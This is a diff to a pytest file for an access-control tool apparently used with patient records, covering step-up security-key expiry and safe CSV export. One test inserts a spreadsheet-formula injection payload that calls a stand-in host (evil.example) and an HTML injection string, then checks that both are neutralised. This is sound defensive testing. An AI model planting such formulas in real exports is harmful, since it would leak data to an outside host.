@@ -17,7 +17,7 @@ import pytest
 from accessguard.audit.reviews import declare_emergency
 from accessguard.errors import ConfigurationError
 from tests.audit_support import run_cli
-from tests.authenticators import enrolled_key, key_session, reasons, redeem_link
+from tests.authenticators import assertion, enrolled_key, key_session, reasons, redeem_link
 from tests.conftest import CAEN, Demo
 
 HTML = {"accept": "text/html"}
@@ -55,6 +55,21 @@ def test_every_action_needs_an_administrator_with_a_fresh_security_key(asgi_demo
         assert doctor.get(page, headers=HTML).status_code == 403
         assert admin_totp.get(page, headers=HTML, follow_redirects=False).headers["location"].startswith("/accessguard/step-up?")
     assert asgi_demo.guard.authenticators.of_account("inf.dubois", states=("active",))  # nothing was done
+
+
+def test_a_security_key_verified_more_than_15_minutes_ago_administers_nothing_until_verified_again(asgi_demo: Demo) -> None:
+    key = enrolled_key(asgi_demo, "admin")
+    admin = key_session(asgi_demo, "admin", key)
+    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200  # fresh: a preview
+    asgi_demo.clock.advance(15 * 60 + 1)
+    for path, body in ACTIONS.items():
+        assert reasons(admin.post(path, json=body)) == ["phishing_resistant_required"], path
+    for page in ("/accessguard/admin", "/accessguard/admin/scope?subject=dr.martin&since=1h&format=csv"):
+        stale = admin.get(page, headers=HTML, follow_redirects=False)
+        assert stale.status_code == 303 and stale.headers["location"].startswith("/accessguard/step-up?"), page
+    assert not _events(asgi_demo, "breach_scope_read")
+    assert assertion(admin, key).status_code == 200
+    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200
 
 
 def test_accounts_are_searched_and_filtered(asgi_demo: Demo) -> None:
@@ -190,8 +205,8 @@ def test_a_patient_id_that_is_a_spreadsheet_formula_is_inert_in_the_breach_scope
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     with closing(sqlite3.connect(Path(asgi_demo.guard.settings.data_dir) / "patients.db")) as db, db:
         db.execute(
-            "INSERT INTO patients SELECT ?, ins, first_name, '<b>Zzhostile</b>', birth_date, phone, email FROM patients WHERE id = 'pat-0001'",
-            (formula,),
+            "INSERT INTO patients SELECT ?, ins, first_name, ?, birth_date, phone, email FROM patients WHERE id = 'pat-0001'",
+            (formula, "<b>Zzhostile</b>"),
         )
     nurse = asgi_demo.login("inf.dubois")
     start = int(asgi_demo.clock.now) - 1
@@ -201,7 +216,8 @@ def test_a_patient_id_that_is_a_spreadsheet_formula_is_inert_in_the_breach_scope
     admin = _admin(asgi_demo)
     asgi_demo.guard.access_log.flush()
     query = f"subject=inf.dubois&since={start}"
-    [header, row] = admin.get(f"/accessguard/admin/scope?{query}&format=csv").text.splitlines()
+    [heading, row] = admin.get(f"/accessguard/admin/scope?{query}&format=csv").text.splitlines()
+    assert heading == "patient,count,first,last"
     assert row.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,')  # text to a spreadsheet, not a formula
     assert admin.get(f"/accessguard/admin/scope?{query}&format=json").json()[0]["patient"] == formula  # JSON keeps the id as is
     assert html.escape(formula) in admin.get(f"/accessguard/admin/scope?{query}", headers=HTML).text
